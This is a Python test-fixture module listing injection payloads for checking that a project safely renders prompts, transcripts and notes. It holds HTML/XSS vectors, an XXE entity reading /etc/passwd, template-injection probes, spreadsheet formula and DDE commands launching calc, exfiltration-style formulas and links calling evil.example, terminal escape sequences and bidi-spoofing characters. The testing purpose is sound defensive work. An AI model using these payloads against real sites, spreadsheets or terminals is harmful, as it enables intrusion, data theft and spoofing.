"""Texts that do harm where they are not treated as text: for prompts, variants, transcripts, issues and notes.

A payload that runs sets ``document.title`` to ``owned``, so a browser test asks for the title. Some payloads are no
valid UTF-8 (half surrogates): what goes over a wire or into JSON takes ``ENCODABLE``.
"""

from __future__ import annotations

_OWN = "document.title='owned'"

HTML = [
    f"<script>{_OWN}</script>",
    f'<img src=x onerror="{_OWN}">',
    f'<IMG SRC="" ONERROR={_OWN}//',
    f'<svg onload="{_OWN}"><script>{_OWN}</script></svg>',
    f"<svg><animate onbegin={_OWN} attributeName=x dur=1s>",
    f"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload={_OWN}></body></foreignObject></svg>",
    f"</style><script>{_OWN}</script><style>body{{display:none}}",
    f'</title></head><body onload="{_OWN}">',
    f"</textarea></script><script>{_OWN}</script>",
    f'" onmouseover="{_OWN}" x="',
    f"' onfocus='{_OWN}' autofocus='",
    f"` onfocus={_OWN} autofocus tabindex=1 `",
    f"--><script>{_OWN}</script><!--",
    f"]]><script>{_OWN}</script><![CDATA[",
    f'<iframe srcdoc="<script>parent.{_OWN}</script>"></iframe>',
    f'<a href="javascript:{_OWN}">click</a>',
    f"<details open ontoggle={_OWN}><summary>x</summary></details>",
    f"<input autofocus onfocus={_OWN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_OWN}></style></mglyph></table></mtext></math>",
    f'<noscript><p title="</noscript><img src=x onerror={_OWN}>">',
    '<div style="position:fixed;inset:0;background:url(https://evil.example/x);z-index:9999">covered</div>',
    "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>",
    "</td></tr></table></div></main></body></html>after the end",
    "&lt;script&gt;document.title='owned'&lt;/script&gt;&#60;b&#62;&amp;amp;",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "+ADw-script+AD4-document.title='owned'+ADw-/script+AD4-",
    "{{ 7 * 191 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}${7*191}<%= 7*191 %>",
    "100%s %d %(x)s {0} {name} {} \\N{DASH} \\x00 \\u0041",
]

MATHEMATICS = [
    r"costs $\frac{1}{$ or $x_{$ and \$5 $",
    r"$$\href{javascript:document.title='owned'}{x}$$ \(\unicode{x202e}\) \[\def\x{\x\x}\x\]",
    r"$\require{html}\style{position:fixed;top:0}{x}$ \begin{align} a &= b \\ \end{align}",
]

MARKDOWN = [
    "# heading\n\n---\n\n> quote\n\n1. one\n- two\n\n```\nfence\n",
    "[click](javascript:document.title='owned') ![x](https://evil.example/x.png) <https://evil.example/>",
    "| a | b |\n|---|---|\n| `c` | **d** __e__ ~~f~~ *g* _h_ |",
    "a\\| b | c || d \\\\| e",
    "`` `code` ``` <b>`</b> ``` @someone #123 :tada: owner/repo#1 https://evil.example www.evil.example",
    "text\n===\n\n    indented\n\n\ttab\n\n[x]: https://evil.example 'y'\n[^1]: note\n\n- [x] done\n\nx[^1]",
    "~~~html\n<script>document.title='owned'</script>\n~~~\n:::{raw} html\n<b>\n:::\n{eval-rst}",
    "> [!WARNING]\n> not ours\n\n<!-- hidden --> line  \nbreak\\\nbreak &nbsp; &copy;",
]

SPREADSHEET = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\uff1d1+1",
    "{=1+1}",
    "'=1+1",
    '";=1+1;"',
    'a",=1+1,"b\n=2+2',
    '=WEBSERVICE("https://evil.example/")',
    '=IMPORTXML("https://evil.example/","//a")',
    'DDE("cmd";"/C calc";"x")',
    "https://evil.example/" + "a" * 3000,
    "internal:'Summary'!A1",
    "external:c:\\temp\\x.xlsx",
    "mailto:jo@evil.example",
    "1E5",
    "00012",
    "2026-03-01",
    "TRUE",
    "#REF!",
    "_x0041_ _x0000_ _xD800_",
]

TERMINAL = [
    "\x1b[31mred\x1b[0m \x1b]0;owned\x07 \x1b[2J\x1b[H",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \x9b31m",
    "over\rwritten\x08\x08\x08 \x07",
    "\x1bP+q544e\x1b\\ \x1b_x\x1b\\ \x1b",
]

CHARACTERS = [
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200f\u061c",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \u202b\u202b\u202bdeep",
    "a\x00b\x01c\x08d\x7fe\x85f\x9bg\ufffeh\ufeffi\uffff",
    "half \ud83d of a pair",
    "\udcff\udc80 wrong way \ude00\ud83d",
    "\ud800" * 50,
    "zero\u200bwidth\u200djoin\u2060er \u00adsoft",
    "Z" + "\u0301" * 3_000 + "algo",
    "flag\U000e0067\U000e0062\U000e007f \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\u4e00\u4e8c\u4e09\u56db\u4e94" * 60
    + " \U0001f600" * 30
    + " \U0001f468\u200d\U0001f469\u200d\U0001f467" * 9,
    "\ufdfd" * 20 + "\u0bb8\u0bcd\u0bb0\u0bc0" * 20 + "\U00012031" * 9,
    "\u2028line\u2029paragraph\x0bvertical\x0cpage\x1cfile\x1dgroup\x1erecord",
    "",
    " \u00a0\u2003\u3000 ",
    "null",
    "NaN",
]

LONG = [
    "A" * 40_000,
    "word " * 10_000,
    "top" + "\n" * 5_000 + "bottom",
    "\t" * 2_000 + "tabbed",
    "<b>" * 4_000,
    "[" * 3_000 + "(" * 3_000,
    "*_`~" * 2_000,
    "=" * 33_000,
    "\U0001f600" * 17_000,
    "a|" * 4_000,
]

_KINDS = (HTML, MATHEMATICS, MARKDOWN, SPREADSHEET, TERMINAL, CHARACTERS, LONG)
PAYLOADS: list[str] = [payload for kind in _KINDS for payload in kind]
# One of each kind: what the inner loop tries.
ONE_OF_EACH: list[str] = [kind[0] for kind in _KINDS]


def _can_be_encoded(text: str) -> bool:
    try:
        text.encode()
    except UnicodeEncodeError:
        return False
    return True


ENCODABLE: list[str] = [text for text in PAYLOADS if _can_be_encoded(text)]


def name_of(payload: str) -> str:
    """A short name for ``pytest.mark.parametrize(..., ids=name_of)`` that can be typed."""
    plain = "".join(one if one.isascii() and one.isalnum() else "_" for one in payload[:24])
    return f"{PAYLOADS.index(payload):03d}-{plain}"
